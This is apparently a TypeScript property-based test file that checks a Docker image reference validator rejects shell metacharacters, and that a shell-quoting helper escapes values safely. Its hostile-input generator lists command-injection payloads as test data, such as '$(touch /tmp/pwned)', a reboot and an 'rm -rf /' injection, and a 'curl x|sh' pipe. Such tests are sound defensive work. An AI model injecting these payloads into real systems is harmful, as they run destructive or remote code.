import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { NAME_MAX_LENGTH, parseImageReference } from '../../functions/lib/image-reference';
import { shellQuote } from '../../functions/lib/pull-script';

/** Characters with a meaning to a shell (or that end a word): none may survive validation. */
const SHELL_SPECIAL = [...'$`\'"\\;|&<>()*?[]{}~!#%^= \t\n\r\v\f', '\u0000', '\u00a0', '\u2028', '\u{1F600}'];
const SAFE_ALPHABET = /^[A-Za-z0-9._\-/:@]+$/;

const accepts = (input: string): ReturnType<typeof parseImageReference> | undefined => {
  try {
    return parseImageReference(input);
  } catch (error) {
    expect((error as Error).name).toBe('InvalidImageReferenceError');
    return undefined;
  }
};

// Generators following the distribution grammar.
const alnumLower = fc.stringMatching(/^[a-z0-9]{1,8}$/);
const separator = fc.constantFrom('.', '_', '__', '-', '--');
const pathComponent = fc
  .tuple(alnumLower, fc.array(fc.tuple(separator, alnumLower), { maxLength: 2 }))
  .map(([head, rest]) => head + rest.map(([s, a]) => s + a).join(''));
const domainComponent = fc.stringMatching(/^[a-zA-Z0-9]([a-zA-Z0-9-]{0,6}[a-zA-Z0-9])?$/);
const domain = fc
  .tuple(domainComponent, fc.array(domainComponent, { minLength: 1, maxLength: 3 }), fc.option(fc.integer({ min: 1, max: 65535 }), { nil: undefined }))
  .map(([first, rest, port]) => `${[first, ...rest].join('.')}${port !== undefined ? `:${port}` : ''}`);
const tag = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,40}$/);
const digest = fc.stringMatching(/^[0-9a-f]{64}$/).map((hex) => `sha256:${hex}`);
/** A grammar-valid reference, and whether normalisation must leave it unchanged (explicit registry and tag or digest). */
const generatedReference = fc
  .record({
    domain: fc.option(domain, { nil: undefined }),
    path: fc.array(pathComponent, { minLength: 1, maxLength: 4 }),
    tag: fc.option(tag, { nil: undefined }),
    digest: fc.option(digest, { nil: undefined }),
  })
  // Without a registry, Docker reads a first component with "." or ":" (or "localhost") as the registry.
  .filter(({ domain: d, path }) => d !== undefined || (path.length === 1 || !/[.:]/.test(path[0]!)) && path[0] !== 'localhost')
  .map(({ domain: d, path, tag: t, digest: g }) => ({
    reference: `${d ? `${d}/` : ''}${path.join('/')}${t ? `:${t}` : ''}${g ? `@${g}` : ''}`,
    unchanged: d !== undefined && (t !== undefined || g !== undefined),
  }))
  .filter(({ reference }) => reference.split('@')[0]!.replace(/:[^/:]*$/, '').length <= NAME_MAX_LENGTH - 20);
const validReference = generatedReference.map(({ reference }) => reference);

const hostileString = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 80 }),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: fc.constantFrom(...SHELL_SPECIAL, 'a', 'b', '1', '/', ':', '@', '.', '-', '_'), maxLength: 60 }),
  fc.tuple(validReference, fc.constantFrom(...SHELL_SPECIAL), fc.nat()).map(([ref, bad, at]) => {
    const i = at % (ref.length + 1);
    return ref.slice(0, i) + bad + ref.slice(i);
  }),
  fc.tuple(validReference, fc.constantFrom('$(touch /tmp/pwned)', '`id`', "';reboot;'", '\nrm -rf /', ' && curl x|sh')).map(([ref, payload]) => ref + payload),
);

describe('image reference validation (property-based)', () => {
  it('never accepts a string with a character that means something to a shell', () => {
    fc.assert(
      fc.property(hostileString, (input) => {
        const parsed = accepts(input);
        if (parsed) {
          expect(parsed.normalized).toMatch(SAFE_ALPHABET);
          for (const special of SHELL_SPECIAL) expect(parsed.normalized.includes(special)).toBe(false);
        }
      }),
      { numRuns: 5000 },
    );
  });

  it('rejects every valid reference once a shell metacharacter is inserted anywhere', () => {
    fc.assert(
      fc.property(validReference, fc.constantFrom(...SHELL_SPECIAL), fc.nat(), (reference, bad, at) => {
        const i = at % (reference.length + 1);
        expect(accepts(reference.slice(0, i) + bad + reference.slice(i))).toBeUndefined();
      }),
      { numRuns: 3000 },
    );
  });

  it('accepts references generated from the grammar, and normalisation round-trips', () => {
    fc.assert(
      fc.property(generatedReference, ({ reference, unchanged }) => {
        const parsed = parseImageReference(reference);
        const again = parseImageReference(parsed.normalized);
        expect(again.normalized).toBe(parsed.normalized);
        expect([again.domain, again.path, again.tag, again.digest]).toEqual([parsed.domain, parsed.path, parsed.tag, parsed.digest]);
        if (unchanged) expect(parsed.normalized).toBe(reference);
        else expect(parsed.normalized.endsWith(reference.slice(reference.lastIndexOf('/') + 1)) || parsed.tag === 'latest').toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  it('single-quotes any value so bash reads it back unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 40 }), (value) => {
        const quoted = shellQuote(value);
        expect(quoted.startsWith("'") && quoted.endsWith("'")).toBe(true);
        // Between the outer quotes, every ' is written as '\'' (close, escaped quote, reopen).
        expect(quoted.slice(1, -1).replaceAll("'\\''", '')).not.toContain("'");
      }),
      { numRuns: 2000 },
    );
  });
});

describe('image reference normalisation', () => {
  it.each([
    ['nginx', 'docker.io/library/nginx:latest'],
    ['nginx:1.27', 'docker.io/library/nginx:1.27'],
    ['bitnami/redis:7', 'docker.io/bitnami/redis:7'],
    ['index.docker.io/bitnami/redis', 'docker.io/bitnami/redis:latest'],
    ['localhost/app', 'localhost/app:latest'],
    ['localhost:5000/team/app:v1', 'localhost:5000/team/app:v1'],
    ['public.ecr.aws/docker/library/python:3.12', 'public.ecr.aws/docker/library/python:3.12'],
    [`ghcr.io/org/app@sha256:${'b'.repeat(64)}`, `ghcr.io/org/app@sha256:${'b'.repeat(64)}`],
    [`ghcr.io/org/app:v2@sha256:${'b'.repeat(64)}`, `ghcr.io/org/app:v2@sha256:${'b'.repeat(64)}`],
  ])('normalises %s to %s', (input, normalized) => {
    expect(parseImageReference(input).normalized).toBe(normalized);
  });

  it.each([
    ['', 'empty'],
    ['Nginx', 'must be lowercase'],
    ['nginx:', 'tag ""'],
    ['nginx:-bad', 'tag "-bad"'],
    [`nginx:${'t'.repeat(129)}`, 'tag'],
    ['nginx@sha256:abc', 'digest "sha256:abc"'],
    [`nginx@md5:${'a'.repeat(32)}`, 'digest'],
    ['team//app', 'empty component'],
    ['team/app/', 'empty component'],
    ['team/-app', 'path component "-app"'],
    ['my_registry.com/app', 'registry "my_registry.com"'],
    ['registry.example.com:99999/app', 'port 99999'],
    [`registry.example.com/${'a'.repeat(250)}`, 'longer than 255'],
    ['nginx latest', 'character " "'],
    ['nginx;reboot', 'character ";"'],
    ['ngînx', 'character "î"'],
  ])('fails when the reference is %j (%s)', (input, problem) => {
    expect(() => parseImageReference(input)).toThrow(expect.objectContaining({ name: 'InvalidImageReferenceError', message: expect.stringContaining(problem) }));
  });
});
